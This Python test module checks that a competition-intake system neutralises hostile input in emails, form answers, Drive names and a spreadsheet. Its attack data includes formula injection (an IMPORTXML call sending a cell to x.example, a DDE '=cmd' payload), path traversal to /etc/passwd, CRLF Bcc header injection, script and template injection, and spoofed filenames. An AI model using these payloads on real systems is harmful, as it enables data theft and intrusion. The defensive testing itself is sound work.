"""Text that attacks: in the workbook it is text, in Drive a safe name, in letters one harmless line. A few mails, always run."""

from __future__ import annotations

import base64
import email
import email.policy
import json
import logging
import traceback
import unicodedata
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from competition.facts import Arrival
from config.errors import FixData
from integrations.google.drive import FOLDER
from integrations.google.sheets import whole
from integrations.workbook import packing, records
from integrations.workbook.tabs import AGENCIES, FILES, HOME, INBOX, JOURNAL, LETTERS, PROPOSALS, REVIEW
from tests.documents.samples import multi, part, picture, text
from tests.hostile.desk import SHIPPED, Desk, desk
from tests.hostile.strange_mails import Maker

JPG = picture()
FORMULA = '=IMPORTXML("http://x.example/?"&A1,"//a")'
ATTACKS = (
    # (title, name of a file)
    (FORMULA, "=cmd|' /C calc'!A0.jpg"),
    ("+62 LAPOR", "../../../etc/passwd.jpg"),
    ("-1+1 TUNTAS", "C:\\Windows\\system32\\foto.jpg"),
    ("@SUM(A1:A9)", "foto\r\nBcc: jahat@lain.example.jpg"),
    ("<img src=x onerror=alert(1)> UJI", "foto\u202egpj.exe.jpg"),
    ("{{ 7*7 }} {% for x in y %}", "foto\0.exe.jpg"),
    ("SIGAP\u202eFDP.EXE\u202c\u200b\ufeff", "<script>alert(1)</script>.jpg"),
    ("PANJANG " * 1250, "f" * 10_000 + ".jpg"),
)
# A number of an identity card, of a telephone, a street: what a log must never tell.
PERSONAL = ("3326014107900002", "0812-0000-7788", "Jalan Melati Gang Tiga")
_BY_FORM = ("=1+1", "+62", "-1+1 TUNTAS BERSAMA", "@SUM(A1:A9)", "\t=1+1", "\r\nBcc: jahat@lain.example", "<script>alert(1)</script>", "")


def _mail(me: Maker, title: str, name: str) -> bytes:
    written = "".join(f"%{b:02X}" for b in name.encode())
    good = part(JPG + me.code.encode(), "Content-Type: image/jpeg", f"Content-Disposition: attachment; filename*=UTF-8''{written}")
    bad = part(b"\x78\x9f\x3e\x22" + b"\0" * 99, "Content-Type: application/ms-tnef", "Content-Disposition: attachment; filename*=UTF-8''%3D1%0D%0ABcc%3A%20winmail.dat")
    words = text(f"Yth. Panitia, terlampir usulan.\nJudul Inovasi : {title}\nNarahubung : =1+1 <b>x</b> {PERSONAL[1]}\nNIK : {PERSONAL[0]}\nAlamat : {PERSONAL[2]}\n")
    return me.mail(multi(words, good, bad), subject=f"=?utf-8?q?=3D1+1=0D=0ABcc:_jahat=40lain.example_usulan_{me.code}?=")


def _stranger(me: Maker) -> bytes:
    """The same from somebody nobody knows, who waits for a person."""
    name = f"=?utf-8?b?{base64.b64encode(FORMULA.encode()).decode()}?="
    return _mail(me, *ATTACKS[0]).replace(b"terlampir usulan", b"terlampir usulan kami").replace(f"Petugas <{me.address}>".encode(), f"{name} <=cmd@lain.example>".encode())


def _answer(number: int, value: str) -> dict[str, Any]:
    """A form response in which everything that can be typed is an attack."""
    form = json.loads((SHIPPED / "forms" / "form.json").read_text())
    asked = [i["questionItem"]["question"] for i in form["items"] if "textQuestion" in i.get("questionItem", {}).get("question", {})]
    opens = datetime.fromisoformat(json.loads((SHIPPED / "edition.json").read_text())["intake"]["opens_at"])
    when = (opens.astimezone(UTC) + timedelta(minutes=number)).strftime("%Y-%m-%dT%H:%M:%S.000Z")
    return {
        "responseId": f"jawaban-{number}",
        "createTime": when,
        "lastSubmittedTime": when,
        "respondentEmail": Maker("T0").address,
        "answers": {q["questionId"]: {"questionId": q["questionId"], "textAnswers": {"answers": [{"value": value}]}} for q in asked},
    }


class _Ear(logging.Handler):
    """Hears everything that is logged, however quiet."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.heard: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.heard.append(f"{record.getMessage()} {record.exc_text or ''}")


@pytest.fixture(scope="module")
def ear() -> _Ear:
    return _Ear()


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory, ear: _Ear) -> Iterator[Desk]:
    makers = [Maker(f"T{n}") for n in range(len(ATTACKS))]
    answers = [_answer(n, value) for n, value in enumerate(_BY_FORM)]
    with desk(tmp_path_factory.mktemp("text"), [m.code for m in makers], answers) as office:
        office.deliver(_mail(m, *attack) for m, attack in zip(makers, ATTACKS, strict=True))
        office.deliver([_stranger(makers[0])])
        root = logging.getLogger()
        before = root.level
        root.addHandler(ear)
        root.setLevel(logging.DEBUG)
        try:
            office.run()
        finally:
            root.removeHandler(ear)
            root.setLevel(before)
        yield office


def test_nothing_that_was_sent_is_a_formula_or_lost(attacked: Desk) -> None:
    book = attacked.play.look().book
    tabs = attacked.workspace.sheets._client.http_client.fetch_sheet_metadata(
        book.id,
        params={
            "ranges": [whole(t.title) for t in (HOME, AGENCIES, INBOX, PROPOSALS, FILES, REVIEW, LETTERS, JOURNAL)],
            "fields": "sheets.data.rowData.values.userEnteredValue",
        },
    )["sheets"]
    cells = [
        v["userEnteredValue"]
        for t in tabs
        for d in t["data"]
        for r in d.get("rowData", ())
        for v in r.get("values", ())
        if "userEnteredValue" in v
    ]
    assert [c for c in cells if "formulaValue" in c or "errorValue" in c] == []
    texts = {c["stringValue"] for c in cells if "stringValue" in c}
    assert {n if len(n) <= 2000 else f"{n[:1995]}….jpg" for _, n in ATTACKS} <= texts
    assert FORMULA in texts
    assert len(book[PROPOSALS].rows) == len(ATTACKS)
    assert len(book[REVIEW].rows) == len(_BY_FORM) + 1  # the stranger's mail, and the answers in nobody's name
    assert {"=cmd@lain.example", "=1+1", "@SUM(A1:A9)"} <= texts


def test_every_folder_has_a_safe_name_in_drive(attacked: Desk) -> None:
    folders = [f for f in attacked.workspace.drive.marked("panitia", attacked.rulebook.edition.id) if f.mime == FOLDER]
    assert len(folders) >= len(ATTACKS)
    for folder in folders:
        assert 0 < len(folder.name) <= 150
        assert not set(folder.name) & set('/\\:*?"<>|')
        assert not [c for c in folder.name if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}]


def test_no_log_tells_what_people_wrote(attacked: Desk, ear: _Ear) -> None:
    assert attacked and len(ear.heard) > 10  # it did listen
    told = "\n".join(ear.heard)
    titles = [t for t, _ in ATTACKS]
    assert [secret for secret in (*PERSONAL, *titles, "jahat@lain.example", "@uji.example", "=cmd") if secret in told] == []


def test_a_damaged_row_is_told_without_what_stands_in_it(attacked: Desk) -> None:
    book = attacked.play.look().book
    row = next(iter(book[INBOX]))
    damaged = {**packing.unpacked(row.text("fakta")), "received_at": PERSONAL[0], "telepon": PERSONAL[1]}
    book[INBOX].put(row.text("id"), fakta=json.dumps(damaged))
    with pytest.raises(FixData) as trouble:
        records.model_in(book[INBOX].rows[row.text("id")], "fakta", Arrival, INBOX.title)
    told = "".join(traceback.format_exception(trouble.value))
    assert "ValidationError" in told
    assert [secret for secret in PERSONAL if secret in told] == []


def test_every_file_has_a_safe_name_in_drive(attacked: Desk) -> None:
    files = attacked.workspace.drive.marked("panitia-berkas", attacked.rulebook.edition.id)
    assert len(files) == len(ATTACKS)
    for file in files:
        assert file.name.endswith(".jpg")
        assert 4 < len(file.name) <= 150
        assert not set(file.name) & set('/\\:*?"<>|')
        assert not [c for c in file.name if unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp"}]


def test_every_letter_has_only_our_headers_and_one_line_for_each_value(attacked: Desk) -> None:
    users = attacked.workspace.gmail._users
    rows = list(attacked.play.look().book[LETTERS])
    assert len(rows) == 2 * len(ATTACKS)  # a receipt and a request for what is missing
    drafts = [users.drafts().get(userId="me", id=r.text("draf"), format="raw").execute()["message"]["raw"] for r in rows if not r.text("pesan")]
    sent = [users.messages().get(userId="me", id=r.text("pesan"), format="raw").execute()["raw"] for r in rows if r.text("pesan")]
    for raw in drafts + sent:
        letter = email.message_from_bytes(base64.urlsafe_b64decode(raw), policy=email.policy.default)
        names = [n.lower() for n, _ in letter.items() if n != "Received"]
        assert len(names) == len(set(names))
        assert not {"bcc", "cc", "reply-to"} & set(names)
        to = [a.domain for a in letter["to"].addresses] if "to" in names else []  # who gets it is written when it is approved
        assert to == ["uji.example"] * (raw in sent)
        assert letter.get_content_type() == "text/plain"
        body = letter.get_content().replace("\r\n", "\n")
        assert not [c for c in letter["subject"] + body if unicodedata.category(c) in {"Cf", "Cc"} and c != "\n"]
        assert len(letter["subject"]) <= 300
        assert len(body) < 25_000
        assert "Bcc:" not in [line[:4] for line in body.splitlines()]
        assert max(map(len, raw_lines(raw))) < 999
    assert sum("winmail.dat: jenis berkas tidak diterima" in _body(raw) for raw in drafts + sent) == len(ATTACKS)


def raw_lines(raw: str) -> list[bytes]:
    """The lines of a message as they go over the wire."""
    return base64.urlsafe_b64decode(raw).split(b"\r\n")


def _body(raw: str) -> str:
    letter = email.message_from_bytes(base64.urlsafe_b64decode(raw), policy=email.policy.default)
    return str(letter.get_content())
